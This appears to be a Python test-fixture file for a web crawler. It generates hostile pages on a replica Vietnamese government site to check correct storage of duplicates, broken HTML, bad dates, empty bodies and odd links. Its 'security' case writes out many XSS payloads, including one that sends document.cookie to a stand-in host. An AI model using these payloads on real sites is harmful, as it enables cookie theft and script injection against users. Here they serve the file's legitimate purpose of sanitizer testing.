"""The cases of hostile pages: a duplicate, broken HTML, an impossible date, an empty body, odd links, scripts.

Each is an article whose ground truth says what a correct crawl stores for it.
"""

from __future__ import annotations

import html
import re

from crawler.replica.hostile.pages import _esc, _html_resource
from crawler.replica.hostile.site import UNFOLLOWABLE_HREFS
from crawler.replica.hostile.writer import _Block, _CaseWriter
from crawler.replica.site import JUSTIFY, NO_IMAGE
from crawler.replica.text import ascii_slug


class _PageCases(_CaseWriter):
    """What the pages hold that is hostile: each an article, with what a correct crawl stores."""

    def duplicate(self) -> str:
        title = "Hội nghị tập huấn kỹ năng tiếp nhận hồ sơ tại bộ phận một cửa các cấp"
        article = self.article("tin-tuc-su-kien/tin-cchc-cua-tinh", title, self.prose(5), flags={"duplicate"})
        alias = f"/tin-tuc-su-kien/{ascii_slug(title)}-{article.site_id}.html"  # the parent section's URL of it
        self.resources[alias] = self.resources[article.path]
        article.aliases = (alias,)
        self.keep(article, "duplicate", "the same page under two URLs, no canonical link: one article row")
        self.case("duplicate-alias", alias, f"{title} (chuyên mục cha)", "the alias of `duplicate`: no second article")
        return alias

    def unclosed_tags(self) -> None:
        title = "Kết quả khảo sát mức độ hài lòng của người dân tại huyện Tam Đường"
        prose = self.prose(3)
        items = self.prose(2)
        blocks = [
            _Block(f"{JUSTIFY}<strong>{_esc(prose[0].text)}", prose[0].text),  # <strong> never closed
            _Block(f"{JUSTIFY}{_esc(prose[1].text)}", prose[1].text),
            _Block("<ul>"),
            *(_Block(f"<li><em>{_esc(item.text)}", item.text) for item in items),  # nor <em>
            _Block("</ul>"),
            _Block(f"<p>{_esc(prose[2].text)}", prose[2].text),
        ]
        article = self.article("ket-qua-cchc/chi-so-cchc", title, blocks, flags={"unclosed-tags"})
        # End tags HTML lets a page omit, omitted everywhere on the page; the document is never closed.
        text = self.resources[article.path].body.decode("utf-8")
        text = re.sub(r"</(p|li|td|tr|body|html)>", "", text)
        self.resources[article.path] = _html_resource(text)
        self.keep(article, "unclosed-tags", "no closing </p>, </li>, </td>, </tr>, </body>, </html>, an "
                                            "unclosed <strong> and <em>: every field exact")  # fmt: skip

    def bad_date(self) -> None:
        title = "Thông báo kết quả kiểm tra công tác cải cách hành chính năm 2021"
        article = self.article("ket-qua-cchc/bao-cao-cchc-dinh-ky", title, self.prose(4),
                               flags={"unparseable-date"}, date_raw="32/13/2021 10:15:00 SA")  # fmt: skip
        self.keep(article, "impossible-date", "dated 32/13/2021: stored with `published` empty, "
                                              "`published_raw` kept, the row flagged")  # fmt: skip

    def empty_body(self) -> None:
        title = "Hình ảnh hoạt động tuần lễ cải cách hành chính tại thành phố Lai Châu"
        article = self.article("tin-tuc-su-kien/tin-cchc-cua-tinh", title, [], flags={"empty-body"})
        self.keep(article, "empty-body", "title and date, an empty body: stored with an empty body_text, flagged")

    def scheme_links(self) -> None:
        title = "Đường dây nóng tiếp nhận phản ánh, kiến nghị về thủ tục hành chính"
        a = [f'<a href="{html.escape(href)}">' for href in UNFOLLOWABLE_HREFS]
        blocks = [
            *self.prose(2),
            _Block(f"<p>Gọi đường dây nóng {a[3]}0213.3876.650</a> hoặc {a[4]}+84 213 3876 650</a>, "
                   f"nhắn tin {a[5]}tại đây</a>.</p>",
                   "Gọi đường dây nóng 0213.3876.650 hoặc +84 213 3876 650, nhắn tin tại đây."),
            _Block(f"<p>Thư điện tử: {a[2]}cchc@laichau.gov.vn</a>; phản ánh trực tuyến "
                   f'<a href="javascript:void(0)" onclick="moBieuMau()">tại đây</a> hoặc {a[1]}mở biểu mẫu</a>.</p>',
                   "Thư điện tử: cchc@laichau.gov.vn; phản ánh trực tuyến tại đây hoặc mở biểu mẫu."),
            _Block(f"<p>Tải biểu mẫu qua {a[6]}máy chủ FTP</a>, {a[7]}bản lưu trên máy</a> hoặc "
                   f"{a[8]}tệp nhúng</a>; xem thêm mục <a href=\"/hoi-dap\">Hỏi đáp</a>.</p>",
                   "Tải biểu mẫu qua máy chủ FTP, bản lưu trên máy hoặc tệp nhúng; xem thêm mục Hỏi đáp.",
                   ["/hoi-dap"]),
        ]  # fmt: skip
        article = self.article("hoi-dap", title, blocks, flags={"scheme-links"})
        self.keep(article, "scheme-links", "javascript:, mailto:, tel:, sms:, ftp:, file:, data: links: "
                                           "none requested, none in pages or links; the article stored")  # fmt: skip

    def security(self) -> None:
        title = "Cảnh báo thư điện tử giả mạo cơ quan nhà nước chứa mã độc"
        intro, closing = self.prose(2)
        escaped = "Thư giả mạo thường chứa đoạn mã như <script>alert(document.cookie)</script>; không mở tệp đính kèm."
        blocks = [
            intro,
            _Block(f"<p>{_esc(escaped)}</p>", escaped),  # shown as text: must stay text, escaped
            _Block('<script>alert("xss")</script>\n<script type="text/javascript" src="https://example.invalid/a.js"></script>'),
            _Block(f'<p><img src="{NO_IMAGE}" alt="" onerror="alert(document.cookie)" '
                   "onload=\"fetch('https://example.invalid/?c='+document.cookie)\" /></p>"),
            _Block("<p>Người dân có thể tra cứu <a href=\"javascript:alert('xss')\">tại đây</a>, "
                   '<a href="JaVaScRiPt:alert(2)">tại trang này</a> hoặc <a href="&#106;avascript:alert(3)">'
                   "liên kết này</a>.</p>",
                   "Người dân có thể tra cứu tại đây, tại trang này hoặc liên kết này."),
            _Block('<p>Hướng dẫn chi tiết xem <a href=" javascript:alert(4)" onclick="alert(5)">hướng dẫn</a> và '
                   '<a href="/gioi-thieu" onmouseover="alert(6)">trang giới thiệu</a>.</p>',
                   "Hướng dẫn chi tiết xem hướng dẫn và trang giới thiệu.", ["/gioi-thieu"]),
            _Block('<iframe src="https://example.invalid/quang-cao" width="1" height="1"></iframe>\n'
                   '<iframe srcdoc="&lt;script&gt;alert(7)&lt;/script&gt;"></iframe>'),
            _Block('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(8)"><circle cx="5" cy="5" r="4" /></svg>'),
            _Block('<object data="javascript:alert(9)"></object><embed src="javascript:alert(10)" />'),
            _Block('<form action="javascript:alert(11)"><input type="submit" value="Gửi" /></form>'),
            _Block('<div style="background-image: url(javascript:alert(12))" onclick="alert(13)">'
                   "Tệp đính kèm của thư giả mạo đã được gỡ bỏ khỏi hệ thống.</div>",
                   "Tệp đính kèm của thư giả mạo đã được gỡ bỏ khỏi hệ thống."),
            _Block('<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">Biểu mẫu khai báo</a> '
                   '<a href="vbscript:msgbox(15)">(bản cũ)</a></p>', "Biểu mẫu khai báo (bản cũ)"),
            _Block('<p><img src="javascript:alert(16)" alt="" /></p>'),
            _Block('<style>body { background: url("javascript:alert(17)") }</style>\n'
                   '<meta http-equiv="refresh" content="0;url=javascript:alert(18)" />'),
            _Block('<noscript><p title="</noscript><img src=x onerror=alert(19)>"></p></noscript>'),
            _Block('<video><source src="/khong-co.mp4" onerror="alert(20)" /></video>'),
            closing,
        ]  # fmt: skip
        article = self.article("chuyen-doi-so", title, blocks, flags={"security"},
                               images=[{"src": NO_IMAGE, "alt": "", "caption": None}])  # fmt: skip
        self.keep(article, "security", "<script>, on* handlers, javascript: links, <iframe>, <svg onload>…: "
                                       "body_text and images exact, `script_vectors(body_html) == []`")  # fmt: skip
